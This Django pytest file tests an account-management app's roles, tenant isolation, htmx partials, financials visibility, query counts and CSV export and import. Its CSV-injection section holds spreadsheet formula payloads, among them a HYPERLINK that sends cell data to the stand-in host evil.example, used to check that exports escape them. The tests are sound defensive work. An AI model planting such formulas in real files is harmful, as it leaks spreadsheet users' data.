"""Pages: roles, htmx partials, no-JS forms, financials protection, other tenants, query counts."""

import csv
import datetime as dt
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts.models import Account, AccountTeamMember, ClassificationChange, Contact, FinancialPeriod
from tenancy.models import Role
from tests.accounts.factories import AccountFactory, ContactFactory, FinancialPeriodFactory, TeamMemberFactory

pytestmark = pytest.mark.django_db

HTMX = {"HTTP_HX_REQUEST": "true"}


def _queries(client, url, **extra):
    """(all queries, queries of this app's tables, response). The rest is the same for every page:
    session, user, tenant, membership, the tenant switcher, savepoints and app.tenant_id."""
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url, **extra)
    assert response.status_code == 200, response.status_code
    ours = [q["sql"] for q in ctx.captured_queries if "accounts_" in q["sql"]]
    return len(ctx.captured_queries), len(ours), response


# --- List -----------------------------------------------------------------------------------------


def test_list_filters_live_in_the_url_and_work_without_javascript(manager_a):
    AccountFactory(tenant=manager_a.tenant, name="Strategic One", classification="strategic")
    AccountFactory(tenant=manager_a.tenant, name="Tactical One", classification="tactical")
    response = manager_a.client.get(manager_a.url("accounts/?classification=strategic"))
    body = response.content.decode()
    assert response.status_code == 200 and "Strategic One" in body and "Tactical One" not in body
    assert '<option value="strategic" selected>' in body
    assert 'hx-push-url="true"' in body and 'hx-get="/t/tenant-a/accounts/"' in body
    assert response["Vary"] and "HX-Request" in response["Vary"]


def test_htmx_gets_only_the_results(manager_a):
    AccountFactory(tenant=manager_a.tenant, name="Searchable Corp")
    AccountFactory(tenant=manager_a.tenant, name="Other Ltd")
    response = manager_a.client.get(manager_a.url("accounts/?q=searcha"), **HTMX)
    body = response.content.decode()
    assert body.lstrip().startswith('<div id="results"')
    assert "<html" not in body and "Searchable Corp" in body and "Other Ltd" not in body
    assert 'hx-swap-oob="outerHTML"' in body  # keeps the sort box in step with a clicked column
    restore = manager_a.client.get(
        manager_a.url("accounts/?q=searcha"), HTTP_HX_REQUEST="true", HTTP_HX_HISTORY_RESTORE_REQUEST="true"
    )
    assert b"<html" in restore.content


def test_bad_filter_values_are_reported_and_ignored(manager_a):
    AccountFactory(tenant=manager_a.tenant, name="Kept")
    body = manager_a.client.get(manager_a.url("accounts/?level=9&owner=bob&page=0")).content.decode()
    assert "Level: Select a valid choice. 9 is not one of the available choices. — that filter was left out." in body
    assert "Owner: Choose an owner from the list." in body
    assert "Kept" in body


def test_list_sort_and_pagination_links_keep_the_filters(manager_a):
    for i in range(30):
        AccountFactory(tenant=manager_a.tenant, name=f"Acc {i:02d}", classification="tactical")
    body = manager_a.client.get(manager_a.url("accounts/?classification=tactical&sort=-name")).content.decode()
    assert "Showing 1–25 of 30 accounts" in body
    assert body.index("Acc 29") < body.index("Acc 05")
    assert 'href="?classification=tactical&amp;sort=-name&amp;page=2"' in body
    second = manager_a.client.get(manager_a.url("accounts/?classification=tactical&sort=-name&page=2")).content.decode()
    assert "Showing 26–30 of 30" in second and "Acc 04" in second and "Acc 05" not in second


@pytest.mark.parametrize("query", ["", "?q=acc", "?classification=tactical&sort=-level", "?page=2"])
def test_list_query_count_does_not_grow_with_accounts(manager_a, query):
    def make(n, start):
        for i in range(start, start + n):
            AccountFactory(
                tenant=manager_a.tenant, name=f"Acc {i:03d}", classification="tactical", owner=manager_a.user
            )

    few = 30 if query == "?page=2" else 5  # page 2 has rows in both cases
    make(few, 0)
    small, small_ours, _ = _queries(manager_a.client, manager_a.url(f"accounts/{query}"))
    small_htmx, _, _ = _queries(manager_a.client, manager_a.url(f"accounts/{query}"), **HTMX)
    make(50, few)
    large, large_ours, response = _queries(manager_a.client, manager_a.url(f"accounts/{query}"))
    large_htmx, htmx_ours, _ = _queries(manager_a.client, manager_a.url(f"accounts/{query}"), **HTMX)
    assert b"Acc 0" in response.content or b"Acc 02" in response.content
    # The (capped) count query appears once there is a next page: at most one more, never one per row.
    assert large <= small + 1 and large_htmx <= small_htmx + 1
    assert large_ours <= 2 and htmx_ours <= 2  # the page's rows with their owners, and the count
    # Two of them for the rating badges: the manual ratings in force and the recomputes still pending.
    assert large <= 18 and large_htmx <= 12


# --- Detail and tabs --------------------------------------------------------------------------------


def _account_with(tenant, n, owner=None):
    account = AccountFactory(tenant=tenant, owner=owner)
    boss = None
    for i in range(n):
        boss = ContactFactory(account=account, reports_to=boss if i % 3 else None)
        FinancialPeriodFactory(account=account)
    return account


@pytest.mark.parametrize("tab", ["", "contacts/", "team/", "financials/"])
def test_account_pages_query_count_does_not_grow(admin_a, make_member, tab):
    small = _account_with(admin_a.tenant, 5)
    large = _account_with(admin_a.tenant, 50)
    for account, count in ((small, 5), (large, 50)):
        for _ in range(count if tab == "team/" else 1):
            TeamMemberFactory(account=account, user=make_member(admin_a.tenant, Role.VIEWER).user)
    admin_a.client.get(admin_a.url(f"accounts/{small.pk}/{tab}"))  # first use creates the tenant's defaults
    n_small, _, _ = _queries(admin_a.client, admin_a.url(f"accounts/{small.pk}/{tab}"))
    n_large, ours, response = _queries(admin_a.client, admin_a.url(f"accounts/{large.pk}/{tab}"))
    assert n_small == n_large, (n_small, n_large)
    # The overview also carries the hierarchy, key-player, plans and rating panels, each in fixed queries.
    assert n_large <= 42 if tab == "" else (n_large <= 18 and ours <= 5)
    _, _, partial = _queries(admin_a.client, admin_a.url(f"accounts/{large.pk}/{tab}"), **HTMX)
    assert b"<html" not in partial.content and b'class="tabs"' in partial.content


def test_org_chart_shows_the_tree_and_people_who_left(manager_a):
    account = AccountFactory(tenant=manager_a.tenant, name="Chart Co")
    ceo = ContactFactory(account=account, full_name="Cara Ceo", title="CEO")
    ContactFactory(account=account, full_name="Finn Finance", reports_to=ceo)
    ContactFactory(account=account, full_name="Gone Gary", reports_to=ceo, is_active=False, left_on=dt.date(2025, 3, 1))
    body = manager_a.client.get(manager_a.url(f"accounts/{account.pk}/contacts/")).content.decode()
    chart = body.split('class="orgchart acc-org"')[1].split("</section>")[0]
    assert chart.index("Cara Ceo") < chart.index("<ul>") < chart.index("Finn Finance")
    assert 'class="acc-gone"' in chart and "left Mar 2025" in chart


@pytest.mark.parametrize(
    "role, on_team, sees",
    [
        (Role.ADMIN, False, True),
        (Role.EXECUTIVE, False, True),
        (Role.MANAGER, True, True),
        (Role.MANAGER, False, False),
        (Role.VIEWER, False, False),
    ],
)
def test_financials_only_for_admins_executives_and_the_team(tenant_a, make_member, role, on_team, sees):
    member = make_member(tenant_a, role)
    account = AccountFactory(tenant=tenant_a)
    FinancialPeriodFactory(account=account, revenue=987654)
    if on_team:
        TeamMemberFactory(account=account, user=member.user)
    overview = member.client.get(member.url(f"accounts/{account.pk}/")).content.decode()
    tab = member.client.get(member.url(f"accounts/{account.pk}/financials/"))
    assert ("987,654" in overview) is sees
    assert ("Financials</a>" in overview) is sees
    assert tab.status_code == (200 if sees else 404)
    if sees:
        assert b"<svg" in tab.content and b"987,654" in tab.content


def test_financial_period_form_and_delete_follow_the_rule(manager_a, make_member):
    account = AccountFactory(tenant=manager_a.tenant)
    TeamMemberFactory(account=account, user=manager_a.user)
    outsider = make_member(manager_a.tenant, Role.MANAGER)
    data = {"period_start": "2026-01-01", "period_end": "2026-03-31", "revenue": "1000", "currency": "EUR"}
    assert outsider.client.post(outsider.url(f"accounts/{account.pk}/financials/"), data).status_code == 404
    bad = manager_a.client.post(
        manager_a.url(f"accounts/{account.pk}/financials/"), {**data, "period_end": "2025-12-31"}
    )
    assert bad.status_code == 400 and b"The period cannot end before it starts." in bad.content
    ok = manager_a.client.post(manager_a.url(f"accounts/{account.pk}/financials/"), data)
    assert ok.status_code == 302
    with manager_a.scope():
        period = FinancialPeriod.objects.get()
    assert outsider.client.post(outsider.url(f"accounts/financials/{period.pk}/delete/")).status_code == 404
    assert manager_a.client.post(manager_a.url(f"accounts/financials/{period.pk}/delete/")).status_code == 302
    with manager_a.scope():
        assert not FinancialPeriod.objects.exists()


# --- Create, edit, classify, delete -------------------------------------------------------------------


def test_create_with_clear_validation_messages(manager_a):
    AccountFactory(tenant=manager_a.tenant, external_id="TAKEN", name="First")
    url = manager_a.url("accounts/new/")
    assert manager_a.client.get(url).status_code == 200
    response = manager_a.client.post(
        url, {"name": "", "external_id": "TAKEN", "status": "prospect", "classification": "strategic"}
    )
    body = response.content.decode()
    assert response.status_code == 400
    assert "This field is required." in body and "Say why this account is strategic." in body
    response = manager_a.client.post(
        url, {"name": "Second", "external_id": "TAKEN", "status": "prospect", "classification": "unqualified"}
    )
    assert (
        response.status_code == 400
        and "External id &#x27;TAKEN&#x27; is already used by “First”." in response.content.decode()
    )
    response = manager_a.client.post(
        url,
        {
            "name": "Second",
            "external_id": "NEW",
            "status": "customer",
            "classification": "strategic",
            "classification_reason": "Opens the Nordic market",
            "owner": manager_a.user.pk,
        },
    )
    assert response.status_code == 302
    with manager_a.scope():
        account = Account.objects.get(external_id="NEW")
        assert (account.classification, account.owner_id, account.status) == (
            "strategic",
            manager_a.user.pk,
            "customer",
        )
        assert ClassificationChange.objects.filter(account=account).count() == 1


def test_classify_page_asks_for_the_reason_and_shows_history(manager_a):
    account = AccountFactory(tenant=manager_a.tenant, name="Classy")
    url = manager_a.url(f"accounts/{account.pk}/classify/")
    response = manager_a.client.post(url, {"classification": "strategic", "reason": ""})
    assert response.status_code == 400 and b"Give the reason for this classification." in response.content
    with manager_a.scope():
        assert Account.objects.get(pk=account.pk).classification == "unqualified"
    response = manager_a.client.post(url, {"classification": "strategic", "reason": "Co-develops our next product"})
    assert response.status_code == 302
    detail = manager_a.client.get(manager_a.url(f"accounts/{account.pk}/")).content.decode()
    assert "Co-develops our next product" in detail and "Unqualified → Strategic" in detail


def test_edit_and_delete(manager_a):
    account = AccountFactory(tenant=manager_a.tenant, name="Before", external_id="E-1")
    ContactFactory(account=account)
    url = manager_a.url(f"accounts/{account.pk}/edit/")
    response = manager_a.client.post(
        url, {"name": "After", "external_id": "E-1", "status": "customer", "potential_level": "7"}
    )
    assert (
        response.status_code == 400
        and (b"The potential level must be from 1 to 5: the active hierarchy model has 5 levels (got 7).")
        in response.content
    )
    assert manager_a.client.post(url, {"name": "After", "external_id": "E-1", "status": "customer"}).status_code == 302
    with manager_a.scope():
        assert Account.objects.get(pk=account.pk).name == "After"
    assert manager_a.client.post(manager_a.url(f"accounts/{account.pk}/delete/")).status_code == 302
    with manager_a.scope():
        assert not Account.objects.exists() and not Contact.objects.exists()


@pytest.mark.parametrize(
    "path",
    [
        "accounts/new/",
        "accounts/{id}/edit/",
        "accounts/{id}/classify/",
        "accounts/{id}/delete/",
        "accounts/{id}/contacts/new/",
        "accounts/import/",
    ],
)
def test_viewers_and_executives_get_403_on_editing_pages(viewer_a, executive_a, path):
    """Their own tenant's account: 403 naming the roles that can; a missing id stays 404."""
    account = AccountFactory(tenant=viewer_a.tenant)
    for member in (viewer_a, executive_a):
        url = member.url(path.format(id=account.pk))
        refused = member.client.get(url)
        assert refused.status_code == 403
        assert "needs the <strong>Admin or Account manager</strong> role" in refused.content.decode()
        assert member.client.post(url, {"name": "x", "classification": "strategic", "reason": "x"}).status_code == 403
        if "{id}" in path:
            assert member.client.get(member.url(path.format(id=2_000_000_000))).status_code == 404
    with viewer_a.scope():
        assert Account.objects.get(pk=account.pk).classification == "unqualified"


def test_read_only_members_see_no_edit_buttons(viewer_a):
    account = AccountFactory(tenant=viewer_a.tenant)
    body = viewer_a.client.get(viewer_a.url(f"accounts/{account.pk}/")).content.decode()
    assert "Change classification" not in body and "/edit/" not in body
    assert "New account" not in viewer_a.client.get(viewer_a.url("accounts/")).content.decode()


def test_other_tenants_account_is_404_like_a_missing_one(manager_a, manager_b):
    theirs = AccountFactory(tenant=manager_b.tenant)
    for path in ("", "contacts/", "team/", "financials/", "edit/", "classify/"):
        other = manager_a.client.get(manager_a.url(f"accounts/{theirs.pk}/{path}"))
        missing = manager_a.client.get(manager_a.url(f"accounts/999999999/{path}"))
        assert other.status_code == missing.status_code == 404


# --- Contacts and team ------------------------------------------------------------------------------


def test_contact_create_edit_leave(manager_a):
    account = AccountFactory(tenant=manager_a.tenant)
    other = ContactFactory(account=AccountFactory(tenant=manager_a.tenant))
    url = manager_a.url(f"accounts/{account.pk}/contacts/new/")
    response = manager_a.client.post(url, {"full_name": "Boss", "is_active": "on"})
    assert response.status_code == 302
    with manager_a.scope():
        boss = Contact.objects.get(full_name="Boss")
    bad = manager_a.client.post(url, {"full_name": "Report", "reports_to": other.pk, "is_active": "on"})
    assert bad.status_code == 400 and b"Select a valid choice" in bad.content
    assert (
        manager_a.client.post(url, {"full_name": "Report", "reports_to": boss.pk, "is_active": "on"}).status_code == 302
    )
    with manager_a.scope():
        report = Contact.objects.get(full_name="Report")
    loop = manager_a.client.post(
        manager_a.url(f"accounts/contacts/{boss.pk}/edit/"),
        {"full_name": "Boss", "reports_to": report.pk, "is_active": "on"},
    )
    assert loop.status_code == 400 and "already reports (directly or not) to Boss".encode() in loop.content
    left = manager_a.client.post(manager_a.url(f"accounts/contacts/{report.pk}/leave/"), {"left_on": "2026-01-31"})
    assert left.status_code == 302
    with manager_a.scope():
        report.refresh_from_db()
        assert (report.is_active, report.left_on, report.reports_to_id) == (False, dt.date(2026, 1, 31), boss.pk)


def test_team_add_change_remove(manager_a, viewer_a, manager_b):
    account = AccountFactory(tenant=manager_a.tenant, owner=manager_a.user)
    url = manager_a.url(f"accounts/{account.pk}/team/")
    stranger = manager_a.client.post(url, {"user": manager_b.user.pk, "team_role": "specialist"})
    assert stranger.status_code == 400 and b"Select a valid choice" in stranger.content
    assert manager_a.client.post(url, {"user": viewer_a.user.pk, "team_role": "specialist"}).status_code == 302
    again = manager_a.client.post(url, {"user": viewer_a.user.pk, "team_role": "specialist"})
    assert again.status_code == 400 and b"is already on the team" in again.content
    with manager_a.scope():
        member = AccountTeamMember.objects.get()
    assert viewer_a.client.post(viewer_a.url(f"accounts/team/{member.pk}/remove/")).status_code == 403
    assert viewer_a.client.post(url, {"user": viewer_a.user.pk}).status_code == 403
    manager_a.client.post(manager_a.url(f"accounts/team/{member.pk}/role/"), {"team_role": "owner"})
    with manager_a.scope():
        assert AccountTeamMember.objects.get().team_role == "owner"
    manager_a.client.post(manager_a.url(f"accounts/team/{member.pk}/remove/"))
    with manager_a.scope():
        assert not AccountTeamMember.objects.exists()


def test_a_manager_off_the_team_cannot_join_it_to_see_the_financials(manager_a, make_member):
    account = AccountFactory(tenant=manager_a.tenant)  # manager_a is neither owner nor on the team
    url = manager_a.url(f"accounts/{account.pk}/team/")
    page = manager_a.client.get(url).content.decode()
    assert "Add to the team" not in page and "Only the account's team or a tenant admin" in page
    refused = manager_a.client.post(url, {"user": manager_a.user.pk, "team_role": "specialist"})
    assert refused.status_code == 400 and "Only the account's team or a tenant admin" in refused.content.decode()
    edit = manager_a.client.post(
        manager_a.url(f"accounts/{account.pk}/edit/"),
        {"name": account.name, "owner": manager_a.user.pk, "status": account.status},
    )
    assert edit.status_code == 400
    assert manager_a.client.get(manager_a.url(f"accounts/{account.pk}/financials/")).status_code == 404
    with manager_a.scope():
        assert not AccountTeamMember.objects.exists() and Account.objects.get(pk=account.pk).owner_id is None


# --- Export ------------------------------------------------------------------------------------------


def _export(member, query=""):
    response = member.client.get(member.url(f"accounts/export.csv{query}"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_export_is_the_filtered_list_and_hides_financials_from_those_who_may_not_see_them(tenant_a, make_member):
    viewer, executive, manager = (make_member(tenant_a, r) for r in (Role.VIEWER, Role.EXECUTIVE, Role.MANAGER))
    mine = AccountFactory(tenant=tenant_a, name="Mine", classification="strategic")
    theirs = AccountFactory(tenant=tenant_a, name="Theirs", classification="strategic")
    AccountFactory(tenant=tenant_a, name="Tactical", classification="tactical")
    TeamMemberFactory(account=mine, user=manager.user)
    recent = dt.date.today() - dt.timedelta(days=100)
    for account in (mine, theirs):
        FinancialPeriodFactory(
            account=account, period_start=recent, period_end=recent + dt.timedelta(days=30), revenue=5000
        )
    rows = {r["name"]: r for r in _export(executive, "?classification=strategic")}
    assert set(rows) == {"Mine", "Theirs"}
    assert rows["Mine"]["revenue_last_12_months"] == "5000.00" and rows["Theirs"]["revenue_last_12_months"] == "5000.00"
    rows = {r["name"]: r for r in _export(manager, "?classification=strategic")}
    assert rows["Mine"]["revenue_last_12_months"] == "5000.00" and rows["Theirs"]["revenue_last_12_months"] == ""
    rows = {r["name"]: r for r in _export(viewer)}
    assert set(rows) == {"Mine", "Theirs", "Tactical"}
    assert all(r["revenue_last_12_months"] == "" and r["revenue_currency"] == "" for r in rows.values())


def test_an_export_imports_back_without_changes(manager_a):
    AccountFactory(
        tenant=manager_a.tenant,
        name="Round Trip",
        external_id="RT-1",
        owner=manager_a.user,
        revenue_tier="gold",
        potential_level=3,
        notes="Line one\nline two; with, punctuation",
    )
    exported = manager_a.client.get(manager_a.url("accounts/export.csv")).content
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = manager_a.client.post(
        manager_a.url("accounts/import/"),
        {"kind": "accounts", "file": SimpleUploadedFile("e.csv", exported, "text/csv")},
    )
    preview = manager_a.client.get(response["Location"])
    assert b"1 unchanged" in preview.content and b"problem" not in preview.content


# --- CSV injection (issue 11, item 3) ---------------------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "industry": "+1+1",
    "segment": "-2+3",
    "notes": "@SUM(A1:A9)",
    "classification_reason": "\tTabbed",
    "external_id": "\rCR-1",
}


def test_the_export_escapes_cells_a_spreadsheet_would_run_as_formulas(tenant_a, make_member):
    viewer = make_member(tenant_a, Role.VIEWER)
    AccountFactory(tenant=tenant_a, **FORMULAS)
    raw = viewer.client.get(viewer.url("accounts/export.csv")).content.decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(raw)) if r["name"].endswith('"Click")'))
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"' in raw  # quoted, its quotes doubled
    assert row["potential_level"] == "" and row["status"] == "prospect"


def test_an_escaped_export_imports_back_unchanged(manager_a):
    AccountFactory(
        tenant=manager_a.tenant,
        owner=manager_a.user,
        **{**FORMULAS, "external_id": "=RT-1", "classification_reason": "-keep"},
    )
    exported = manager_a.client.get(manager_a.url("accounts/export.csv")).content
    assert b"'=RT-1" in exported
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = manager_a.client.post(
        manager_a.url("accounts/import/"),
        {"kind": "accounts", "file": SimpleUploadedFile("e.csv", exported, "text/csv")},
    )
    preview = manager_a.client.get(response["Location"])
    assert b"1 unchanged" in preview.content and b"problem" not in preview.content
    page = manager_a.client.get(manager_a.url("accounts/import/")).content.decode()
    assert "OWASP" in page and "apostrophe" in page
